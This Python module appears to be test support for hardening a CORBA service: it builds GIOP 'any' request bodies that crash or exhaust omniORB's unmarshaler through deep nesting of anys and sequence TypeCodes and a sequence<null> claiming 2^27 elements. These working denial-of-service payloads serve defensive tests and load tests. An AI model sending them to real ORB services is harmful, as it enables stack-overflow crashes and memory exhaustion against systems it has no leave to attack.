"""Well-formed but hostile request bodies for Hardening::Target.take(in any) (issue #12 items 1, 2).

Each builder returns the CDR body of one ``any`` (GIOP 1.2, little endian,
starting at an 8-aligned offset) that omniORB's own unmarshaler cannot take
safely: it recurses once per nesting level (a deep enough chain overflows
its C stack) and makes one Python object per element of a zero-size type.
Shared by tests/test_hardening_values.py and loadtests/attack_values.py.
"""

from __future__ import annotations

import struct

TK_NULL, TK_LONG, TK_ANY, TK_SEQUENCE = 0, 3, 11, 19


def _u32(n: int) -> bytes:
    return struct.pack("<I", n)


def _encapsulation(payload: bytes) -> bytes:
    # Byte-order octet (little endian), then the payload aligned from the encapsulation start.
    return _u32(len(payload) + 4) + b"\x01\x00\x00\x00" + payload


def nested_anys(depth: int) -> bytes:
    """An any holding an any holding ... ``depth`` deep, then a long."""
    return _u32(TK_ANY) * depth + _u32(TK_LONG) + _u32(7)


def nested_sequence_typecodes(depth: int) -> bytes:
    """An any whose TypeCode is sequence<sequence<...<long>>> ``depth`` deep, holding an empty sequence."""
    tc = _u32(TK_LONG)
    for _ in range(depth):
        tc = _u32(TK_SEQUENCE) + _encapsulation(tc + _u32(0))  # element type, then bound 0
    return tc + _u32(0)


def empty_elements(count: int) -> bytes:
    """An any holding a sequence<null> of ``count`` elements: a few octets on the wire."""
    return _u32(TK_SEQUENCE) + _encapsulation(_u32(TK_NULL) + _u32(0)) + _u32(count)


ATTACKS = {
    "any in any, 300,000 deep": lambda: nested_anys(300_000),
    "sequence TypeCodes, 8,000 deep": lambda: nested_sequence_typecodes(8_000),
    "sequence<null> of 2^27": lambda: empty_elements(1 << 27),
}
